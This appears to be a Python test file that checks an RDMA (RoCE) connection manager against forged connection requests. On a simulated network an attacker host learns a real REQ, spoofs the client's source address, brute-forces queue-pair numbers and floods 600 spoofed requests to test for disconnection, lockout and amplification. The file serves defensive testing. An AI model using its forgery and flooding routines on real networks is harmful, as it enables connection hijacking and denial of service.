#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""request_test.py VICTIM: REQs of the connection manager whose source address is forged.

The attacker has a host of its own on the network, from which it learns what a REQ to the server looks
like. It hears nothing of what the others say to each other.
"""
import os
import struct
import sys
import time

from attack import Children, expect, main, until
from wire import Lan, Tap, Victims, ethernet, packed, roce, roce_parts

VICTIM = os.path.realpath(sys.argv[1])
# Behind BTH and DETH (20 bytes): where things are in the MAD of a REQ (IBA 12.6.5, A11).
MAD = 20
ATTRIBUTE, COMM_ID, GUID, QPN, GIDS, ADDRESSES = 16, 24, 40, 56, 80, 168
FORGED = 600


def is_request(frame):
    parts = roce_parts(frame)
    return parts and len(parts[2]) == MAD + 256 and parts[2][MAD + ATTRIBUTE:][:2] == b"\0\x10"


def learn(victims, host):
    """What a REQ from this host to the server looks like, by asking for a connection."""
    tap = Tap(host)
    victims.connect(host)
    return roce_parts(tap.read(is_request))[2]


def forge(request, source, number, qpn, guid=None):
    """As if from that address, which has this QP number there."""
    mad = bytearray(request[MAD:])
    mad[COMM_ID:COMM_ID + 4] = struct.pack("!I", number)
    if guid is None:
        guid = os.urandom(8)
    mad[GUID:GUID + 8] = guid
    mad[QPN:QPN + 3] = struct.pack("!I", qpn)[1:]
    mad[GIDS + 12:GIDS + 16] = packed(source)
    mad[ADDRESSES + 12:ADDRESSES + 16] = packed(source)
    return request[:MAD] + bytes(mad)


def qpn_of(request):
    return struct.unpack("!I", b"\0" + request[MAD + QPN:][:3])[0]


def test_a_forged_request_ends_no_connection(folder):
    """Once with all that the peer's own REQ had, then with every QP number that it could have."""
    with Lan(3) as (server, client, mallory), Children() as start:
        heard = Tap(client)
        victims = Victims(start, VICTIM, (server, client))
        victims.go_on("before the attack")
        own = roce_parts(heard.read(is_request))[2]
        tap, form = Tap(mallory), learn(victims, mallory)
        qpn, guid = qpn_of(own), own[MAD + GUID:][:8]

        def send(qpn, number, guid=None):
            packet = roce(client.ipv4, server.ipv4, forge(form, client.ipv4, number, qpn, guid))
            tap.send(ethernet(mallory, server, packet))
        send(qpn, 0x01000001)
        victims.go_on("a REQ with the QP's number")
        for i in range(10):
            send(qpn, 0x01000002, guid)
            time.sleep(0.1)
        victims.go_on("a REQ with the QP's number and the CA's GUID")
        for i in range(0, 1 << 16, 4):
            send(qpn & 0xff0000 | (qpn + i) & 0xffff, 0x01000100 + i)
        victims.go_on("REQs with all numbers")


def test_a_flood_keeps_no_peer_out_and_is_not_multiplied(folder):
    """600 addresses that do not answer. Their network is the attacker's, so that it sees answers."""
    with Lan(4) as (server, client, mallory, late), Children() as start:
        server.ip("route", "add", "10.9.0.0/16", "via", mallory.ipv4)
        victims = Victims(start, VICTIM, (server, client))
        victims.go_on("before the attack")
        tap, form = Tap(mallory), learn(victims, mallory)
        tap.drain()
        asked = 0
        for i in range(FORGED):
            source = "10.9.%d.%d" % (i // 250, i % 250 + 1)
            packet = roce(source, server.ipv4, forge(form, source, 0x02000000 + i, 0x020000 + i))
            asked += len(packet)
            tap.send(ethernet(mallory, server, packet))
        began = time.monotonic()
        for host in (client, late):
            victims.connect(host)
        took = time.monotonic() - began
        expect("new connections within 10 s: %.1f s" % took, took < 10)
        victims.go_on("after the attack")
        until("8 s have passed", lambda: time.monotonic() - began > 8)
        answers = [f for f in tap.drain() if roce_parts(f) and roce_parts(f)[1].startswith("10.9.")]
        # One for each, and few that are sent again in all.
        expect("answers: %d to %d" % (len(answers), FORGED), 300 <= len(answers) <= FORGED + 24)
        answered = sum(len(f) - 14 for f in answers)
        expect("bytes: %d for %d" % (answered, asked), answered <= 1.05 * asked)


main(globals())
